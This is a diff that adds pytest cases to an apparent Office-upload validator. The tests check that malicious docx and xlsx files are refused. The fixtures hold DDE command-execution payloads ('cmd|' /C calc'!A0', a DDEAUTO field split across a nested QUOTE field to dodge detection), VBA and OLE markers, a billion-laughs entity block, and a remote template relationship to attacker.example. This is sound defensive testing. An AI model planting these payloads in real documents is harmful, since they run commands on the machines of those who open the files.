@@ -149,6 +149,36 @@ def test_a_dde_field_whose_name_a_nested_field_computes_is_refused(upload, asset
     assert_refused(upload, asset_storage, data, "quote.docx", "office_dde")
 
 
+def test_a_dde_field_whose_name_a_nested_field_completes_is_refused(upload, asset_storage):
+    """``{ DD{ QUOTE 69 65 85 84 79 } c:\\…cmd.exe }``: Word puts the nested result into the
+    outer instruction, so the name reads DDEAUTO although no run holds more than ``DD``."""
+    nested = instruction_runs(" QUOTE 69 65 85 84 79 ", result="EAUTO")
+    body = (
+        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        b'<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
+        + nested
+        + b'<w:r><w:instrText xml:space="preserve"> c:\\windows\\system32\\cmd.exe</w:instrText></w:r>'
+        + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    data = with_document_body(docx_bytes(image=False), body)
+    assert_refused(upload, asset_storage, data, "split.docx", "office_dde")
+
+
+def test_a_field_nested_in_an_instruction_after_its_name_is_accepted(upload):
+    """``{ IF { MERGEFIELD Amount } > 100 "large" "small" }``: the name IF has ended first."""
+    nested = instruction_runs(" MERGEFIELD Amount ", result="250")
+    body = (
+        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        b'<w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>'
+        + nested
+        + b'<w:r><w:instrText xml:space="preserve"> &gt; 100 "large" "small" </w:instrText></w:r>'
+        + b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>large</w:t></w:r>'
+        + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    asset = upload(with_document_body(docx_bytes(image=False), body), "if.docx")
+    assert asset.page_count == 1
+
+
 def test_a_simple_dde_field_is_refused(upload, asset_storage):
     body = b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
     data = with_document_body(docx_bytes(image=False), body)
@@ -218,6 +248,56 @@ def test_an_excel_dde_link_is_refused(upload, asset_storage):
     assert_refused(upload, asset_storage, data, "link.xlsx", "office_dde")
 
 
+def xlsx_with_rules(formula: str) -> bytes:
+    """A workbook whose conditional formatting and data validation use ``formula`` (openpyxl
+    writes them as ``<formula>`` and ``<formula1>``, the elements Excel evaluates)."""
+    import openpyxl
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    sheet.append(["Total", 12])
+    sheet.conditional_formatting.add("B1:B9", FormulaRule(formula=[formula]))
+    validation = DataValidation(type="list", formula1=formula)
+    validation.add("A2")
+    sheet.add_data_validation(validation)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("where", ["conditional formatting", "data validation"])
+def test_a_dde_formula_in_a_rule_is_refused(upload, asset_storage, where):
+    data = xlsx_with_rules("cmd|' /C calc'!A0")
+    sheet = entry(data, "xl/worksheets/sheet1.xml")
+    # Keep only the rule under test, so that each case proves its own element is read.
+    if where == "conditional formatting":
+        sheet = sheet[: sheet.index(b"<dataValidations")] + sheet[sheet.index(b"</dataValidations>") + 18 :]
+        assert b"<formula>" in sheet
+    else:
+        sheet = sheet[: sheet.index(b"<conditionalFormatting")] + sheet[sheet.index(b"</conditionalFormatting>") + 24 :]
+        assert b"<formula1>" in sheet
+    data = rezip(data, replace={"xl/worksheets/sheet1.xml": sheet})
+    assert_refused(upload, asset_storage, data, "rule.xlsx", "office_dde")
+
+
+def test_a_dde_formula_in_a_pivot_cache_field_is_refused(upload, asset_storage):
+    cache = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        b'<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b'<cacheFields count="1"><cacheField name="x" formula="cmd|\'/c calc\'!A0"/></cacheFields>'
+        b"</pivotCacheDefinition>"
+    )
+    data = rezip(xlsx_bytes(), add={"xl/pivotCache/pivotCacheDefinition1.xml": cache})
+    assert_refused(upload, asset_storage, data, "pivot.xlsx", "office_dde")
+
+
+def test_ordinary_rules_are_accepted(upload):
+    asset = upload(xlsx_with_rules("$B$1>10"), "rules.xlsx")
+    assert asset.page_count == 1
+
+
 def test_pipes_in_strings_and_sheet_names_are_not_dde(upload):
     data = xlsx_with_formulas('="a|b"&"c"', "='Data|2024'!B1*2", '=IF(B1>1,"x|y","")')
     asset = upload(data, "pipes.xlsx")
@@ -226,6 +306,9 @@ def test_pipes_in_strings_and_sheet_names_are_not_dde(upload):
 
 # --- XML parts under another extension --------------------------------------------------------
 
+MACRO_OVERRIDE = (
+    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
+)
 LAUGHS = b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n'
 
 
@@ -266,3 +349,62 @@ def test_a_renamed_but_safe_main_part_is_still_read(upload):
     original = docx_bytes(image=False)
     asset = upload(renamed_main_part(original, entry(original, "word/document.xml")), "renamed.docx")
     assert asset.page_count == 1
+
+
+# --- packages inside packages -----------------------------------------------------------------
+
+
+def docx_embedding(package: bytes, name: str = "word/embeddings/chart.dat") -> bytes:
+    return rezip(docx_bytes(image=False), add={name: package})
+
+
+def test_an_embedded_workbook_is_accepted(upload):
+    asset = upload(docx_embedding(xlsx_bytes(), "word/embeddings/Microsoft_Excel_Worksheet.xlsx"), "chart.docx")
+    assert asset.page_count == 1
+
+
+@pytest.mark.parametrize(
+    ("inner", "code"),
+    [
+        (lambda: xlsx_with_formulas("=cmd|' /C calc'!A0"), "office_dde"),
+        (lambda: rezip(xlsx_bytes(), add={"xl/vbaProject.bin": b"\x00" * 64}), "office_macros"),
+        (lambda: rezip(xlsx_bytes(), add={"xl/embeddings/x.dat": cfb_bytes()}), "office_macros"),
+        (lambda: with_content_type(xlsx_bytes(), MACRO_OVERRIDE), "office_macros"),
+        (lambda: rezip(xlsx_bytes(), add={"xl/data.xml": LAUGHS + b"<a>&lol2;</a>"}), "office_unsafe_xml"),
+    ],
+    ids=["dde", "vba", "ole", "macro-type", "entities"],
+)
+def test_an_embedded_package_is_checked_by_content_whatever_its_name(upload, asset_storage, inner, code):
+    assert_refused(upload, asset_storage, docx_embedding(inner()), "embedded.docx", code)
+
+
+def test_an_external_relationship_inside_an_embedded_package_is_refused(upload, asset_storage):
+    original = xlsx_bytes()
+    rels = entry(original, "xl/_rels/workbook.xml.rels").replace(
+        b"</Relationships>",
+        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+    )
+    inner = rezip(original, replace={"xl/_rels/workbook.xml.rels": rels})
+    assert_refused(upload, asset_storage, docx_embedding(inner), "remote.docx", "office_external_relationship")
+
+
+def test_packages_nested_too_deep_are_refused(upload, asset_storage):
+    inner = xlsx_bytes()
+    for level in range(ooxml.MAX_NESTING - 1):  # with the docx around it: MAX_NESTING levels
+        inner = rezip(xlsx_bytes(), add={f"xl/embeddings/level{level}.xlsx": inner})
+    deeper = rezip(xlsx_bytes(), add={"xl/embeddings/deeper.xlsx": inner})
+    refusal = assert_refused(upload, asset_storage, docx_embedding(deeper), "too-deep.docx", "office_nesting")
+    assert str(ooxml.MAX_NESTING) in refusal.message
+    assert upload(docx_embedding(inner, "word/embeddings/deep.xlsx"), "deep-enough.docx").page_count == 1
+
+
+def test_an_embedded_package_counts_against_the_byte_budget(upload, asset_storage, settings):
+    """1.2 MiB inflated inside a 1 MiB budget, although the outer file sees only a few KiB (every
+    entry stays under the size from which the compression ratio is checked)."""
+    settings.OFFICE_MAX_UNCOMPRESSED_MB = 1
+    blank = b"\0" * (ooxml.RATIO_FLOOR - 1024)
+    inner = rezip(xlsx_bytes(), add={f"xl/media/blank{number}.dat": blank for number in range(20)})
+    data = docx_embedding(inner)
+    assert len(data) < 64 * 1024
+    assert_refused(upload, asset_storage, data, "budget.docx", "office_archive_limit", status=413)
